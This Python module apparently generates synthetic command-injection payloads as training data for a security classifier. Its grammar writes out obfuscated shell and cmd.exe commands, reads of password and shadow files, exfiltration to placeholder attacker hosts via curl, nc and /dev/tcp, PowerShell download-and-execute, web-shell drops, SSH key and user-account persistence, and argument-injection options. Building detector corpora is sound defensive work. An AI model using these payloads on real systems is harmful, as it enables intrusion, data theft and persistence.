"""Short and disguised commands: split words, options, tools that run others, call-backs, PowerShell."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from securitai.train.corpora.attacks.cmdi_base import shell_encode
from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.shell_disguise import powershell64
from securitai.train.corpora.kinds import COOKIE, FILENAME, HEADER, VALUE, AttackKind
from securitai.verdict import Category

_UCMD, _WCMD, _WORD = PARTS.maker("ucmd"), PARTS.maker("wcmd"), PARTS.maker("ucmd00")
_EMPTY = (
    "''", '""', "\\", "\\", "$@", "$*", "$1", "$9", "${x}", "${1}", "``", "$()", "$u", "${a:-}",
    "'\"\"'", "$''", "${@}", "${*}", "''''", "\\\n", "$!", "${_z}",
)  # fmt: skip
_TOOLS = ("cat", "id", "ls", "nc", "tac", "head", "whoami", "base64", "wget", "curl", "uname")
_FILES = ("passwd", "hosts", "shadow", "issue", "group", "os-release", "hostname", "fstab")
_IFS = ("${IFS}", "$IFS$9", "$IFS", "${IFS%%?}", "$IFS$1", "\t", "${IFS}$@", "$IFS''")


def _inside(rng: Random, text: str, filler: str, behind: str = "") -> str:
    """A text with a filler before (and one behind) some of the letters in its words."""
    cut = rng.random() * 0.6 + 0.3
    return "".join(
        [
            filler + char + behind
            if (index or behind) and char.isalnum() and rng.random() < cut
            else char
            for index, char in enumerate(text)
        ]
    )


def _pick(rng: Random, *texts: str) -> str:
    return texts[int(rng.random() * len(texts))]


def split_words(rng: Random) -> str:
    """A command whose words are cut by quotes, backslashes or expansions that come to nothing."""
    command = _UCMD(rng) if rng.random() < 0.6 else _WORD(rng)
    if rng.random() < 0.4:
        quote = _pick(rng, "'", '"')
        text = _inside(rng, command, quote, quote)
    else:
        text = _inside(rng, command, _pick(rng, *_EMPTY))
    return text.replace(" ", _pick(rng, *_IFS)) if rng.random() < 0.25 else text


def wildcards(rng: Random) -> str:
    """A command found by its pattern: ``/???/c?t``, ``/bi[n]/ca*``."""
    text = _pick(rng, "/bin/", "/usr/bin/") + _pick(rng, *_TOOLS)
    if rng.random() < 0.7:
        text += " /etc/" + _pick(rng, *_FILES)
    form, cut = _pick(rng, "?", "?", "?", "[{}]", "*"), rng.random() * 0.6 + 0.2
    out = [form.format(c) if c.isalnum() and rng.random() < cut else c for c in text]
    return "".join(out).replace(" ", " " if rng.random() < 0.7 else _pick(rng, *_IFS))


def no_blanks(rng: Random) -> str:
    """A command with ``$IFS``, braces or a redirection where the blanks were."""
    command, roll = _UCMD(rng), rng.random()
    if " " not in command:
        command += " -" + _pick(rng, "l", "a", "h")
    if roll < 0.35:
        return "{" + command.replace(" ", ",") + "}"
    if roll < 0.5 and command.count(" ") == 1 and " /" in command:
        return command.replace(" ", "<")
    return command.replace(" ", _pick(rng, *_IFS))


def carets(rng: Random) -> str:
    """A command for cmd.exe with carets, quotes or empty variables inside its words."""
    return _inside(rng, _WCMD(rng), _pick(rng, "^", "^", "^", '""', '"', "%x%", "%os:~0,0%"))


def piped(rng: Random) -> str:
    """A command in base64, hex, octal or backwards, and the pipeline that runs it."""
    command, roll, bar = _UCMD(rng), rng.random(), _pick(rng, "|", " | ")
    shell = _pick(rng, "sh", "bash", "/bin/sh", "/bin/bash", "zsh", "dash", "busybox sh", "sh -s")
    echo = _pick(rng, "echo ", "printf ", "echo -n ", "printf %s ")
    data, quote = command.encode(), _pick(rng, "'", '"')
    if roll < 0.35:
        flag = _pick(rng, "-d", "--decode", "-D", "-di")
        text = f"{echo}{b64encode(data).decode()}{bar}base64 {flag}"
    elif roll < 0.5:
        text = _pick(rng, f"{echo}{data.hex()}{bar}xxd -r -p", f"xxd -p -r<<<{data.hex()}")
    elif roll < 0.65:
        text = _pick(rng, f"echo '{command[::-1]}'{bar}rev", f"rev<<<'{command[::-1]}'")
    elif roll < 0.85:
        form = _pick(rng, "\\x{:02x}", "\\{:03o}")
        code = "".join([form.format(byte) for byte in data])
        text = f"{_pick(rng, 'printf', 'echo -e', 'printf %b')} {quote}{code}{quote}"
    else:
        shifted = "".join([chr((ord(c) - 84) % 26 + 97) if c.islower() else c for c in command])
        text = f"echo {quote}{shifted}{quote}{bar}tr a-z n-za-m"
    tail = f"{text}{bar}{shell}"
    return _pick(rng, tail, tail, tail, f"$({text})", f"{shell}<<<$({text})", f"`{text}`")


_G = Grammar(
    r"""
host1 = 3×‹ip›¦2×‹ipriv›¦127.0.0.1¦8.8.8.8¦localhost¦2×‹site›¦‹site›:‹port›¦eth0
host0:
  4×‹e›
  4×‹host1›
  ‹prefix›
  ‹syl›.‹txt¦jpg¦pdf¦csv¦zip¦log¦mp4›
  ‹mail›
  ‹az›
sep1 = ;¦;¦; ¦|¦| ¦ | ¦||¦|| ¦ || ¦&&¦ && ¦&¦ & ¦ ; ¦%0a¦%0A¦\n
sep = 6×‹sep1›¦‹nl›¦‹crlf›¦'‹sep1›¦"‹sep1›¦)‹sep1›
closing = 8×‹e›¦2×;¦‹sp›#¦‹sp›&¦|¦||¦‹nl›¦;'¦;"¦‹sp›&&‹sp›‹az›¦‹sp›2>&1¦#
split = 6×‹host0›‹sep›‹hidden›‹closing›¦‹host0›$(‹hidden›)¦‹host0›`‹hidden›`¦"$(‹hidden›)"¦'`‹hidden›`'¦${‹az›:-$(‹hidden›)}¦<(‹hidden›)¦‹hidden›‹sep1›‹hidden›
hidden:
  6×‹splitwords›
  2×‹wildcards›
  3×‹noblanks›
  ‹x=c›=‹ucmd0›;$‹$x›
  ‹x=az›='‹ucmd0›'‹;¦&&›eval $‹$x›
  ‹x=c›=‹u_file›;‹cat¦tac¦head¦nl¦rev¦sort›$IFS$‹$x›
  ‹x=c›=w‹y=c›=hoami;$‹$x›$‹$y›
  cat $(printf '/et%s' c/‹passwd¦hosts¦issue›)
  cat ${HOME:0:1}etc${HOME:0:1}‹passwd¦hosts¦shadow›
  c\a\t ‹u_file›
  /b'i'n/‹c¦s›h -c ‹ucmd00›
one = id¦whoami¦hostname¦uname¦uname -a¦ifconfig¦ipconfig¦netstat¦pwd¦ls¦dir¦ps¦env¦printenv¦uptime¦systeminfo¦tasklist¦reboot¦ls -la¦ps aux¦ps -ef¦ip a¦df -h¦id -un¦cat *¦ls /¦ls ..¦ls -R¦cat ‹hosts›¦arp -a¦ver¦lsblk¦nproc¦tty¦busybox¦sh -i¦ip r
hosts:
  2×/etc/‹hosts¦passwd¦issue¦resolv.conf¦fstab›
  ‹u_file›
second:
  4×‹host1›‹sep1›‹one›‹closing›
  4×‹host1›‹nl›‹one›
  ‹host1›‹crlf›‹one›‹?crlf›
  ‹host1›‹nl›‹one›‹nl›
  3×‹host1›‹sep1›cat ‹hosts›‹closing›
  3×‹host1›‹sep1›‹ucmd0›‹closing›
  2×‹mail›‹sep1›‹one›‹closing›
  ‹prefix›‹;¦&&¦||¦ || ¦ && ›‹one›
  2×‹prefix›|‹whoami¦hostname¦uname -a¦ifconfig¦ipconfig¦id;¦ls -la¦ps aux¦cat /etc/hosts›
  ‹n›‹nl›‹one›
  ‹rnd›.‹jpg¦png¦txt¦pdf¦csv›‹;¦|¦||¦ && ›‹ucmd0›‹;¦|¦ #¦›
  ‹host1›`‹one›`
  ‹host1›$(‹one›)
  '‹host1›'‹sep1›‹one›
  "‹host1›"‹sep1›‹ucmd0›
  ‹host1›'‹sep1›‹one›‹sep1›'
  ‹host1›"‹sep1›‹one›‹sep1›"
  ‹host1› -c 1‹sep1›‹ucmd0›
ctx0 = ‹c1›‹oobrun›‹c1›¦';‹oobrun›;'¦";‹oobrun›;"¦'|‹oobrun›|'¦"|‹oobrun›|"¦'&&‹oobrun›&&'¦"&‹oobrun›&"¦'||‹oobrun›||'¦"||‹oobrun›||"¦'`‹oobrun›`'¦"`‹oobrun›`"¦"$(‹oobrun›)"¦'$(‹oobrun›)'¦'"`‹oobrun›`"'
ctx1 = ')‹sep1›‹oobrun›;('¦")‹sep1›‹oobrun›‹sep1›("¦`‹oobrun›`‹oobrun›`
ctx:
  14×‹ctx0›
  3×‹ctx1›
  4×‹host0›‹sep›‹oobrun›‹closing›
  2×‹host0›`‹oobrun›`
  2×‹host0›$(‹oobrun›)
  \‹q=qq›‹sep1›‹oobrun›‹sep1›\‹$q›
c1 = &¦|¦;¦||¦ || ¦ & ¦ | ¦ ; ¦&&
oobrun0 = curl -d "$(‹ucmd0›)" ‹oobhost›¦wget --post-data="`‹ucmd0›`" ‹url›¦curl -T ‹u_file› ‹url›¦curl -F ‹az›=@‹u_file› ‹url›¦curl -d @‹u_file› ‹oobhost›¦‹ucmd0›|nc ‹oobhost› ‹port›¦nslookup ‹rnd›.‹oobhost› ‹ip›¦certutil -urlcache -f ‹url› ‹az›¦cat</dev/tcp/‹oobhost›/‹port›
oobrun:
  9×‹oobrun0›
  4×‹nslookup¦dig¦host¦ping -c 1¦ping -c 3¦ping -n 3¦ping -n 1¦nslookup -type=txt¦dig +short¦getent hosts¦drill¦tracert -h 1¦traceroute -m 1¦telnet¦nc -z¦resolvectl query› ‹oobhost›
  2×‹nslookup¦dig¦host¦ping -c1¦ping -n 1¦curl¦wget -q› ‹subst›.‹oobhost›
  3×‹curl¦wget¦curl -s¦curl -k¦wget -q -O-¦wget --spider¦curl -I¦lynx -dump¦fetch¦http¦curl.exe¦iwr› ‹url›
  curl ‹oobhost›/‹?c›‹subst›
  curl ‹url›?‹c›=‹subst›
  5×‹delaycmd›
one1 = whoami¦id¦hostname¦uname¦pwd¦id -u¦whoami|rev¦hostname -f¦id|base64¦uname -r¦echo %USERNAME%
subst = `‹one1›`¦$(‹one1›)
oobhost = 3×‹host›¦‹rnd›.‹syl›.‹tld›
delaycmd0 = sleep ‹#1-9›.‹#1-9›¦sleep $((‹#1-9›*‹#1-9›))¦sleep $(echo ‹#2-20›)¦timeout ‹#2-40›¦start-sleep -s ‹#2-30›¦ruby -e 'sleep ‹#2-30›'¦php -r 'sleep(‹#2-30›);'¦read -t ‹#2-30›¦usleep ‹#1-9›000000¦tail -f /dev/null¦choice /t ‹#2-30› /d y¦waitfor ‹az› /t ‹#2-30›¦[ $(‹one1›|wc -c) -gt ‹d1› ] && sleep ‹#2-20›
delaycmd:
  13×‹delaycmd0›
  4×sleep ‹#2-40›
  3×ping -‹n¦c¦i› ‹#2-40› ‹127.0.0.1¦localhost¦::1›
  ping -‹c¦n› ‹#2-30› ‹ip›
  timeout /t ‹#2-40›‹ /nobreak¦›
  Start-Sleep ‹-Seconds ¦›‹#2-30›
  perl -e 'sleep ‹d1›'
  python‹3¦› -c 'import time;time.sleep(‹#2-30›)'
  if [ "$(‹one1›)" ‹=¦!=¦\>› "‹az›" ];then sleep ‹#2-20›;fi
env1 = COMSPEC¦ComSpec¦SystemRoot¦PATHEXT¦ProgramFiles¦TEMP¦windir
win1:
  4×‹carets›
  %COMSPEC% /‹c¦k¦r› ‹carets›
  %COMSPEC:~-7‹,7¦›% /c ‹wcmd0›
  c^md /c "‹wcmd0›"
  2×set ‹x=az›=‹wcmd0›‹&¦&&¦ & ›‹call ¦›%‹$x›%
  set ‹x=c›=who&set ‹y=c›=ami&call %‹$x›%%‹$y›%
  for /f ‹"delims=" ¦"tokens=*" ¦›%‹x=c› in ('‹wcmd0›') do ‹@¦›‹nslookup¦echo¦ping -n 1¦curl› %‹$x›‹.oast.fun¦.oast.me¦›
  p%‹env1›:~‹#1-30›,0%ing -n ‹#2-30› 127.0.0.1
  ‹@¦(¦,¦;¦=›‹one2›
  start /b ‹wcmd0›
  2×‹type¦more¦find /v ""¦findstr .¦sort¦print¦copy con› ‹c:\¦C:\¦..\¦%windir%\¦›‹w_file¦web.config¦secret.txt¦boot.ini¦file.txt›
  net ‹user¦localgroup administrators¦share¦accounts¦start› ‹syl›‹ Passw0rd! /add¦ /add¦ /active:yes¦›
  2×net user ‹az› ‹rnd› /add
  2×ping -n ‹#1-30› ‹host›
  ver>%temp%\‹rnd›.txt
  ‹one2›|‹clip¦findstr .¦find /c ":"›
  ‹one2›&‹one2›
one2 = whoami¦ipconfig¦dir¦ver¦hostname¦systeminfo¦tasklist¦set¦net user¦quser¦netstat -ano¦whoami /all¦whoami /groups¦calc¦calc.exe¦notepad
verb = Get-Process¦gps¦Get-Service¦Get-ChildItem¦gci env:¦Get-Content‹sp›C:\Windows\win.ini¦gc‹sp›C:\boot.ini¦Get-Date¦$PSVersionTable¦[Environment]::UserName¦Get-LocalUser¦Get-Host¦Get-NetTCPConnection¦$env:USERNAME¦$env:COMPUTERNAME¦Get-WmiObject Win32_OperatingSystem¦gwmi win32_process¦whoami¦ls Env:¦Get-History¦[System.Net.Dns]::GetHostName()¦Get-Clipboard
ps1:
  4×‹verb›
  3×‹start-sleep¦Start-Sleep¦sleep› ‹-s ¦-Seconds ¦-m ¦›‹#2-30›
  ‹verb›|‹Out-String¦ConvertTo-Json¦select -first 1¦Out-File¦fl *› ‹az›
  powershell ‹-¦/›‹EncodedCommand¦enc¦e¦ec¦eNc¦encod› ‹ps64›
  powershell ‹-¦-nop -c ¦/c ¦-Command ¦›‹verb›
  powershell -‹c¦Command› "‹verb›"
  ‹iex¦IEX¦iEx¦icm¦Invoke-Expression›‹(¦ (¦ $(›‹iwr¦irm¦curl¦wget¦Invoke-RestMethod› ‹url›)
  ‹iwr¦irm¦curl› ‹-useb ¦›‹url›|‹iex¦IEX¦. (gcm i*x)›
  &('i'+'ex') ‹verb›
  .("{1}{0}"-f'ex','i') ‹verb›
  & "who""ami"
  [char]‹#97-122›+[char]‹#97-122›+[char]‹#97-122›|iex
  iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('‹b64›')))
  (New-Object Net.WebClient).‹DownloadString¦DownloadData›('‹url›')
  ‹saps¦start¦Start-Process¦ii› ‹calc¦cmd¦notepad›
  Resolve-DnsName ‹host›
  Add-Content ‹drop› '<?=`$_GET[0]`?>'
windowsish:
  6×‹host0›‹sepx›‹win1›‹closex›
  6×‹host0›‹sepy›‹ps1›‹closex›
  &‹sp›‹win1›‹sp›&
  "&‹win1›&"
  '&‹win1›&'
  "|‹win1›|"
  $(‹ps1›)
  "$(‹ps1›)"
  '+$(‹ps1›)+'
  ';‹ps1›;'
  ";‹ps1›;"
  );‹ps1›;(
  ‹ps1›‹;¦|›‹verb›
  ‹carets›
sepx = &¦ & ¦& ¦&&¦ && ¦|¦| ¦ | ¦||¦|| ¦"&¦"|¦'&¦\n¦%26¦%0a
sepy = ;¦; ¦;¦; ¦|¦| ¦\n¦';¦";¦);¦%3b¦&
closex = 4×‹e›¦&¦‹sp›&¦;¦|¦‹sp›#¦‹sp›&‹sp›rem¦2>&1¦"
sum:
  $((‹n›*‹n›))
  $((‹n›‹+¦-¦*¦**¦%¦<<›‹#2-99›))
  $(( ‹n› ‹+¦*¦-› ‹n› ))
  $[‹n›*‹n›]
  $(expr ‹n› ‹\*¦+¦-› ‹n›)
  `expr ‹n› ‹\*¦+¦-› ‹n›`
  $(echo ‹n›*‹n›|bc)
sums0 = ‹host0›$((‹n›*‹n›))¦‹host0›‹sep›echo ‹x=az4›‹sum›‹$x›‹closing›¦‹host0›‹sep1›set /a ‹n›*‹n›‹closing›¦‹host0›‹sep›bc<<<‹n›*‹n›¦‹host0›‹sep›awk 'BEGIN{print ‹n›*‹n›}'¦$(echo ‹rnd›$(echo ‹rnd›))¦$(<‹u_file›)¦$(cat<‹u_file›)¦‹sep1›diff <(‹ucmd0›) <(‹ucmd0›)¦‹sep1›cat <(‹ucmd0›)¦‹sep1›tee >(‹ucmd0›)¦‹sep1›. <(curl ‹url›)¦‹sep1›while read l;do echo $l;done<‹u_file›¦‹sep1›mapfile<‹u_file›;echo $MAPFILE
sums1 = ‹sep1›sh<<<'‹ucmd0›'
sums:
  14×‹sums0›
  1×‹sums1›
  3×‹host0›‹sep›echo ‹sum›‹closing›
  ‹host0›‹sep›expr ‹n› ‹\*¦+¦-› ‹n›‹closing›
  ‹host0›‹sep›‹cat¦md5sum¦rev¦base64¦tr a-z A-Z¦wc -c¦xxd›<<<‹az4›
  ‹host0›‹sep›echo ‹az4›|‹md5sum¦rev¦tr a-z A-Z¦base64¦sha1sum¦cksum›
  $(‹cat¦head¦tac¦nl› $(‹ls¦find .¦ls -t|head -1¦which sh›))
  $(<$(‹ls¦ls -a¦find / -name flag*›))
  $(echo $(‹ucmd0›)|‹base64¦rev¦tr a z¦xxd -p›)
  ‹sep1›‹ba¦›sh<<‹x=AZ6›‹nl›‹ucmd0›‹nl›‹$x›
  ‹sep1›‹sh¦bash› -c ‹q=qq›$0‹$q› ‹one›
  ‹sep1›>‹/tmp/¦/var/www/html/›‹rnd›
escape0 = awk 'BEGIN{system("‹ucmd0›")}'¦awk 'BEGIN{"‹ucmd0›"|getline;print}'¦gawk '{system($0)}'<<<‹one1›¦sed '1s/.*/‹one1›/e' ‹u_file›¦tar cf /dev/null ‹az› --checkpoint=1 --checkpoint-action=exec=‹one1›¦tar xf ‹az›.tar --to-command=‹one1›¦tar -cf x x -I '‹ucmd0›'¦git -c alias.‹x=c›='!‹ucmd0›' ‹$x›¦git clone "ext::sh -c ‹one1›%"¦ed<<<'!‹ucmd0›'¦man -P '‹ucmd0›' ls¦zip ‹x=c› ‹$x› -T -TT '‹one1› #'¦perl -e 'print`‹ucmd0›`'¦lua -e 'os.execute("‹ucmd0›")'
escape1 = node -e 'require("child_process").execSync("‹ucmd0›")'¦gdb -batch -ex '!‹ucmd0›'¦expect -c 'spawn ‹ucmd0›;interact'¦make -s --eval='x:;‹ucmd0›' x¦mysql -e '\! ‹ucmd0›'¦sqlite3 /dev/null '.shell ‹ucmd0›'¦ftp<<<'!‹ucmd0›'¦tclsh<<<'exec ‹one1›'¦wget -i ‹u_file›¦wget --use-askpass=‹one1› x¦curl file://‹u_file›¦openssl base64 -in ‹u_file›¦dd if=‹u_file› 2>/dev/null¦date -f ‹u_file›
escape:
  14×‹escape0›
  14×‹escape1›
  find ‹.¦/¦/etc¦/tmp› -exec ‹ucmd0› \;
  find ‹.¦/¦/tmp› ‹-maxdepth 0 ¦-quit ¦›-exec ‹ucmd00› {} +
  git -c core.‹pager¦editor¦sshCommand¦fsmonitor›='‹ucmd0›' ‹status¦log¦fetch x›
  ssh -o‹ ¦›ProxyCommand='‹ucmd0›' ‹az›
  ‹vi¦vim¦view¦ex¦nvim› -c ':!‹ucmd0›' -c ':q!'
  ‹vi¦vim› -es '+!‹ucmd0›' +q
  xargs ‹-I{} ¦-n1 ¦-0 ¦›‹one1›‹</dev/null¦<<<x¦›
  busybox ‹sh -c '¦ash -c '›‹ucmd0›'
  busybox ‹wget¦nc¦telnet¦tftp› ‹host› ‹port›
  ‹nice¦setsid¦nohup¦stdbuf -o0¦ionice -c3¦timeout 9¦flock /tmp¦env¦command¦exec¦eval¦builtin¦time¦watch -x¦strace -o /dev/null¦unshare¦script -qc¦parallel¦sudo¦doas¦su -c¦chroot / ¦catchsegv¦run-parts¦logsave /dev/null› ‹ucmd0›
  perl -e '‹exec¦system›"‹ucmd0›"'
  ruby -e '‹exec¦puts %x›(‹one1›)'
  python‹3¦› -c '__import__("os").system("‹ucmd0›")'
  php -r '‹system¦passthru¦exec›("‹ucmd0›");'
  docker run -v /:/‹c› ‹alpine¦busybox¦ubuntu› cat /‹c›‹u_file›
  bash ‹-x ¦-v ¦›‹u_file›
  ‹paste¦fold¦cut -c1-¦pr¦expand¦sort -u¦uniq¦fmt¦iconv -f utf8¦hexdump -C¦od -An -c¦column -t¦grep .¦grep -r root¦awk 1¦sed p¦look ''¦comm¦rev¦shuf¦uuencode x› ‹u_file›
escaped = 5×‹host0›‹sep›‹escape›‹closing›¦‹host0›$(‹escape›)¦‹host0›`‹escape›`¦4×‹host0›‹sep›‹piped›‹closing›¦‹host0›$(‹piped›)¦‹escape0›¦‹piped›
run1:
  ‹one1›
  ‹ucmd0›
  sh ‹rnd›.sh
  sh -c '‹ucmd0›'
  /tmp/‹rnd›
  ‹curl¦wget› ‹url›
drop:
  2×/var/www/‹html/¦›‹rnd›.‹php¦phtml¦jsp›
  /etc/cron.d/‹az›
  /usr/share/nginx/html/‹rnd›.php
  /root/.ssh/authorized_keys
  ../../public/‹rnd›.‹php¦jsp¦aspx›
  /opt/tomcat/webapps/ROOT/‹rnd›.jsp
qq = '¦"
option0 = --checkpoint-action=exec=‹run1›¦--checkpoint=‹#1-9› --checkpoint-action=exec=‹run1›¦--to-command=‹run1›¦--use-compress-program=‹run1›¦--rsh-command=‹run1›¦ssh://-oProxyCommand=‹run1›/‹az›¦--receive-pack=‹run1›;¦-u‹sp›‹run1›;#¦--open-files-in-pager=‹run1›;¦--exec=‹run1›¦--config core.sshCommand=‹run1›¦ext::sh -c ‹one1›% >&2¦--output=‹drop›¦-o‹sp›‹drop›
option1 = --output-document=‹drop›¦-O‹sp›‹drop› ‹url›¦‹url› -o ‹drop›¦‹url› --output ‹drop›¦-K‹sp›/tmp/‹rnd›¦-T‹sp›‹u_file› ‹url›¦--upload-file ‹u_file› ‹url›¦-d @‹u_file› ‹url›¦--post-file=‹u_file› ‹url›¦--use-askpass=‹run1›¦. -exec ‹ucmd0› {} +¦‹az›* -o -exec ‹ucmd0› \;¦-fls ‹drop›¦-X‹drop› -OQueueDirectory=/tmp
option2 = -oQ/tmp -X‹drop›¦‹syl› -be ${run{‹one1›}}¦-be '${run{‹ucmd0›}}'¦-z ‹run1› -G ‹d1› -w /tmp/‹az›¦--script=/tmp/‹rnd›¦--script <(echo 'os.execute("‹ucmd0›")')¦-iL ‹u_file› -oN -¦--gpu-launcher='‹run1›'¦--renderer-cmd-prefix='‹run1›'¦--utility-cmd-prefix=‹run1›¦--init-command='system ‹ucmd0›'¦--pager=‹run1›¦--preprocessor=‹run1›¦--eval=$(shell ‹ucmd0›)
option3 = --hook-pre-exec=‹run1›¦--rpc-secret=‹az› --on-download-complete=‹run1›¦--pre=‹run1›¦-dNOSAFER -sOutputFile=%pipe%‹one1›¦%pipe%‹run1›¦|‹run1›¦-write ‹drop›¦'-e sh ‹rnd›.sh'¦-e‹sp›'‹run1›'¦@‹u_file›¦--files-from=‹u_file›¦--password-file=‹u_file›¦--init-file=‹u_file›¦-agentpath:/tmp/‹rnd›.so
option4 = -XX:OnOutOfMemoryError='‹run1›'¦-javaagent:/tmp/‹rnd›.jar¦--require=/tmp/‹rnd›.js¦-d allow_url_include=1 -d auto_prepend_file=php://input¦LD_PRELOAD=/tmp/‹rnd›.so
option:
  14×‹option0›
  14×‹option1›
  14×‹option2›
  14×‹option3›
  5×‹option4›
  -I‹sp›‹q=qq›‹run1›‹$q›
  --rsh=‹q=qq›‹run1›‹$q›
  2×-o‹ ¦›ProxyCommand=‹run1›
  -oProxyCommand=‹;¦|¦&&›‹run1›
  --upload-pack=‹'¦"¦›‹run1›
  -c‹sp›core.‹gitProxy¦sshCommand¦pager¦fsmonitor›=‹'¦›‹run1›
  -T‹sp›-TT‹sp›‹q=qq›‹run1› #‹$q›
  --unzip-command=‹q=qq›‹run1›‹$q›
  -exec ‹ucmd00› {} ‹+¦\;¦;›
  -exec ‹sh¦bash› -c ‹q=qq›‹ucmd0›‹$q› \;
  ‹-name x ¦.›‹ -o ¦ › -fprintf ‹drop› '<?=`$_GET[0]`?>'
  -oN ‹drop› '<?php ‹system¦passthru›($_GET[0]);?>'
  ‹GIT_SSH_COMMAND¦PAGER¦BASH_ENV¦PROMPT_COMMAND¦LESSOPEN¦EDITOR›=‹q=qq›‹ucmd1›‹$q›
optional = 8×‹option›¦2×‹host0› ‹option›¦‹az› ‹option›¦‹option› ‹host1›
""",
    PARTS,
    {
        "splitwords": split_words,
        "wildcards": wildcards,
        "noblanks": no_blanks,
        "carets": carets,
        "piped": piped,
        "ps64": powershell64,
    },
)
_SOME = (VALUE, HEADER, COOKIE)
_RULES = {
    "split": 1.2, "second": 0.8, "ctx": 1.0, "windowsish": 0.8, "sums": 0.5, "escaped": 0.8,
}  # fmt: skip
KINDS = (
    *(
        AttackKind(f"cmdi_short.{name}", Category.CMDI, _G.maker(name, shell_encode), weight, _SOME)
        for name, weight in _RULES.items()
    ),
    AttackKind("cmdi_short.option", Category.CMDI, _G.maker("optional"), 0.7, (VALUE, FILENAME)),
)
